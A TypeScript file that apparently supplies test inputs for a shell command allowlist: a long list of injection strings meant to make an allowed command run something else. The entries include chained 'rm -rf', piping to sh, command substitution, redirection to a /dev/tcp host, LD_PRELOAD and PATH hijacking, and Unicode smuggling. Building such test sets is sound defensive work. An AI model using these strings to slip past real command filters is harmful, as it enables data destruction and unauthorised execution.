/** Ways to make an allowed command do something else: `@` is the command. */
export const tricks: readonly string[] = [
  '@; rm -rf .', '@;rm x', '@ && rm x', '@ || rm x', '@ | sh', '@ |sh', '@ |& sh', '@ & rm x', '@&rm x', '@\nrm x', '@\r\nrm x', '@\rrm x',
  '@ &', '@ ;; rm x', '@ $(rm x)', '@ `rm x`', '@ "$(rm x)"', '@ "`rm x`"', '@ <(rm x)', '@ >(rm x)', '@ > out', '@>out', '@ >> out', '@ >| out',
  '@ 2> err', '@ &> out', '@ >& out', '@ <> out', '@ 3> out', '@ {fd}> out', '@ >/dev/null2', '@ > /dev/tcp/10.0.0.1/80', '@ < /dev/tcp/10.0.0.1/80',
  '@ >/dev/null/../x', '@ << E\nx\nE\nrm x', '@ <<< $(rm x)', '@ $' + '{x:=$(rm x)}', '@ $' + '{x@P}', '@ $((a[$(rm x)]))', '@ $[1]', '@ $X', '@ "$X"', '@ $\'\\x3b\'',
  '@ $"x"', '@ #\nrm x', '@ \\\n; rm x', '@ \\\nrm', '@ ;{ rm x; }', '@; (rm x)', '(@; rm x)', '{ @; rm x; }', 'if @; then rm x; fi', 'while @; do rm x; done',
  'for i in 1; do rm x; done; @', 'case x in *) rm x;; esac; @', 'f() { rm x; }; @', 'function f { rm x; }; f; @', 'coproc rm x; @', '! rm x; @',
  'time rm x; @', '[[ -v a[$(rm x)] ]]; @', '(( a[$(rm x)] )); @', 'rm x; @', 'rm x && @', 'rm x | @', 'X=1 @', 'LD_PRELOAD=./x.so @', 'PATH=. @',
  'PATH=.; @', 'export PATH=.; @', 'a[0]=1 @', 'X+=1 @', 'env @', 'env X=1 @', 'sudo @', 'command @', 'builtin @', 'exec @', 'nohup @', 'time @',
  'timeout 5 @', 'nice @', 'xargs @', 'eval @', 'eval "@; rm x"', '. ./@', 'source x; @', 'bash -c "@"', 'sh -c "@; rm x"', './@', '/tmp/@', '../@', '~/@',
  '$X @', '"$X" @', '$(echo rm) @', '`echo rm` @', '?@', '*@', '{rm,@}', '{rm,x};@', '~@', '$\'rm\' x; @', '"rm" x; @', 'r\\m x; @', "r''m x; @",
  'alias git=rm; @', 'trap "rm x" EXIT; @', 'printf -v PATH .; @', "printf -v 'a[$(rm x)]' x; @", "test -v 'a[$(rm x)]'; @", "@ 'a[$(rm x)]'",
  'read PATH; @', 'cd /tmp; @', 'hash -p ./x git; @', 'enable -f ./x git; @', 'set -- x; @', '@; exit', '@ \u0000; rm x', '@ \u001b[2K; rm x', '@ \u202e; rm x',
  '\u00a0@', '@\u00a0; rm x', '@\u2028rm x', '@ \ud800', '@ "unclosed', "@ 'unclosed", '@ \\', '@ |', '@ &&', '&& @', '; @', '| @', '@ )', '( @', '@; }',
  '@ ; fi', '@ <', '@ >', '@ > $X', '@ < $X', '@ <&3', '@ >&3', '@ 2>&3', '@ 12>/dev/null', '@ x>/dev/null', '@ 1<>/dev/null', "@ '\n'; rm x", '@ ""; rm x', '@"";rm x',
  '@ a"b; rm x', "@ a'b; rm x", '@ "a\\"; rm x', '@ "a\\\\"; rm x', "@ 'a\\'; rm x", '@ \\"; rm x; \\"', "@ \\'; rm x; \\'", '@ a#b; rm x', '@ # x; rm y',
  'echo x | tee @', 'find . -exec rm {} +; @', 'select i in x; do rm x; done; @', 'until @; do rm x; done', 'then @', 'do @', '[ -e x ] && @', '@\u000brm', '@\u000c; rm x'
]
